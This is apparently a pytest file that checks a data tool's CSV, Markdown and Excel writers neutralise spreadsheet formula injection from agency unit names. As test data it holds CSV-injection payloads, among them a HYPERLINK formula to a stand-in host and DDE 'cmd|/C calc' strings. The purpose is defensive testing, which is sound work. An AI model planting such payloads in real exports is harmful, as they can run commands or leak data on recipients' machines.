"""No output runs a formula: hostile texts through every writer of CSV, Markdown and Excel.

A unit name such as ``=HYPERLINK("http://x"&A1,"x")`` comes from an agency's units file;
a spreadsheet opening our CSV, or the Excel template we send back, must show it as text
(OWASP, "CSV Injection"). Numbers stay numbers: a negative value is not text.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from cchc.apps.diff import compute_diff, to_markdown
from cchc.errors import problem
from cchc.files import formula_like, neutralise, to_csv_text, write_csv
from cchc.intake.folder import problems_csv
from cchc.intake.templates import write_templates
from cchc.spec.dictionary import load_dictionary
from conftest import run_cli

#: Each hostile text, and the cell a spreadsheet must receive for it.
HOSTILE = {
    '=HYPERLINK("http://x"&A1,"x")': '\'=HYPERLINK("http://x"&A1,"x")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1)": "'@SUM(1)",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "=1+1\n": "'=1+1\n",
}
#: Texts that are safe as they are.
HARMLESS = ["Huyện Bát Xát", "-2", "+84", "2024Q3", "a=b", ""]
#: What the agencies' readers keep of each hostile unit name (cells are trimmed on reading).
NAMES = ['=HYPERLINK("http://x"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_inert(cells: list[str]) -> None:
    live = [c for c in cells if formula_like(c)]
    assert not live, live


@pytest.mark.parametrize("text", list(HOSTILE))
def test_neutralise_puts_an_apostrophe_before_a_formula(text):
    assert neutralise(text) == HOSTILE[text]
    assert formula_like(text) and not formula_like(neutralise(text))


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_texts_and_numbers_are_left_alone(text):
    assert neutralise(text) == text
    assert neutralise(-2.5) == -2.5


def test_csv_writer_neutralises_text_columns_and_keeps_numbers():
    names = list(HOSTILE) + HARMLESS
    frame = pd.DataFrame({
        "unit_name": pd.Series(names, dtype="str"),
        "note": pd.Series(names, dtype=object),
        "value": [-2.5] * len(names),
        "count": pd.array([-3] * len(names), dtype="Int64"),
    })
    text = to_csv_text(frame)
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back[0] == ["unit_name", "note", "value", "count"]
    expected = [HOSTILE.get(n, n) for n in names]
    assert [r[0] for r in back[1:]] == expected
    assert [r[1] for r in back[1:]] == expected
    assert {r[2] for r in back[1:]} == {"-2.5"} and {r[3] for r in back[1:]} == {"-3"}
    _assert_inert(_cells(text))
    # a carriage return inside a cell is quoted: the row stays one row
    assert len(back) == len(names) + 1


def test_a_hostile_header_is_neutralised_too(tmp_path):
    path = write_csv(pd.DataFrame({"=1+1": [1]}), tmp_path / "x.csv")
    assert path.read_text(encoding="utf-8") == "'=1+1\n1\n"


@pytest.fixture(scope="module")
def hostile_dir(sample_dir, tmp_path_factory) -> Path:
    """The sample province whose first units carry hostile names."""
    import shutil

    folder = tmp_path_factory.mktemp("hostile") / "data"
    shutil.copytree(sample_dir, folder)
    units = pd.read_csv(folder / "units.csv", dtype=str, keep_default_na=False)
    units.loc[: len(NAMES) - 1, "name"] = NAMES
    units.to_csv(folder / "units.csv", index=False, lineterminator="\n")
    return folder


def test_compute_writes_results_scores_and_contacts_inert(hostile_dir, tmp_path):
    outs = {name: tmp_path / f"{name}.csv" for name in ("results", "scores", "contacts")}
    result = run_cli("compute", "--data", hostile_dir, "--period", "2024Q3",
                     "--out", outs["results"], "--scores", outs["scores"],
                     "--contacts", outs["contacts"])
    assert result.returncode == 0, result.stderr
    for path in outs.values():
        _assert_inert(_cells(path.read_text(encoding="utf-8")))
    results = pd.read_csv(outs["results"], dtype=str, keep_default_na=False)
    assert {HOSTILE[n] for n in NAMES} <= set(results["unit_name"])
    scores = pd.read_csv(outs["scores"])
    assert (scores["score"] < 0).any()  # negative numbers came out as numbers


def test_validate_csv_report_is_inert(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    lines = ["unit_id,name,level,parent_id", "lao-cai,Tỉnh Lào Cai,province,"]
    lines += [f'"{n.replace(chr(34), 2 * chr(34))}",x,district,lao-cai' for n in NAMES]
    (folder / "units.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    meetings = ["unit_id,period,meetings,via_system"]
    meetings += [f'"{n.replace(chr(34), 2 * chr(34))}",2024Q3,1,1' for n in NAMES]
    meetings += ["=cmd|' /C calc'!A0,2024Q3,1,1"]
    (folder / "meetings.csv").write_text("\n".join(meetings) + "\n", encoding="utf-8")
    result = run_cli("validate", folder, "--format", "csv")
    assert result.returncode == 2
    _assert_inert(_cells(result.stdout))
    report = pd.read_csv(io.StringIO(result.stdout), dtype=str, keep_default_na=False)
    assert "'=cmd|' /C calc'!A0" in set(report["value"])


def test_problems_csv_keeps_every_value_inert():
    problems = [problem("units.csv", "empty_cell", row=i + 2, column="name", value=t)
                for i, t in enumerate(HOSTILE)]
    _assert_inert(_cells(problems_csv(problems)))


def test_diff_csv_and_markdown_are_inert(tmp_path):
    rows = [(n, "2024Q3", "I.1.a", 1, 2, 50.0, 80.0, 30.0, "limited_progress", n)
            for n in NAMES]
    a = pd.DataFrame(rows, columns=["unit_id", "period", "measure_id", "numerator",
                                    "denominator", "value", "target", "gap", "status",
                                    "unit_name"])
    b = a.assign(value=40.0)
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    write_csv(a, tmp_path / "a" / "summary.csv")
    write_csv(b, tmp_path / "b" / "summary.csv")
    as_csv = run_cli("diff", tmp_path / "a", tmp_path / "b", "--format", "csv")
    assert as_csv.returncode == 1, as_csv.stderr
    _assert_inert(_cells(as_csv.stdout))
    frame = pd.read_csv(io.StringIO(as_csv.stdout), dtype=str, keep_default_na=False)
    assert set(frame["delta"]) == {"-10"}  # a negative number stays a number
    as_md = run_cli("diff", tmp_path / "a", tmp_path / "b", "--format", "md")
    cells = [c.strip() for line in as_md.stdout.splitlines() for c in line.split(" | ")]
    _assert_inert([c.strip("| ") for c in cells if not c.startswith("|---")])
    markdown = to_markdown(compute_diff(a, b))
    assert "'=HYPERLINK" in markdown and "| =" not in markdown


def test_templates_hold_no_formula(tmp_path):
    units = tmp_path / "units.csv"
    lines = ["unit_id,name,level,parent_id", "lao-cai,Tỉnh Lào Cai,province,"]
    lines += [f'u{i},"{n.replace(chr(34), 2 * chr(34))}",district,lao-cai'
              for i, n in enumerate(NAMES)]
    lines += ['"=1+1",=2+2,district,lao-cai']
    units.write_text("\n".join(lines) + "\n", encoding="utf-8")
    written = write_templates(tmp_path / "t", units)
    assert len(written) == len(load_dictionary().tables)
    seen: set[str] = set()
    for path in written:
        with zipfile.ZipFile(path) as book:
            for name in book.namelist():
                if name.startswith("xl/worksheets/"):
                    xml = book.read(name).decode("utf-8")
                    assert not re.search(r"<f[ >]", xml), (path.name, name)
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str) and formula_like(cell.value):
                        assert cell.quotePrefix, (path.name, sheet.title, cell.coordinate)
                        seen.add(cell.value)
            for validation in sheet.data_validations.dataValidation:
                # a range or a number: never values spelled inside a formula
                assert validation.formula1 is None or '"' not in validation.formula1
    assert set(NAMES) | {"=1+1", "=2+2"} <= seen
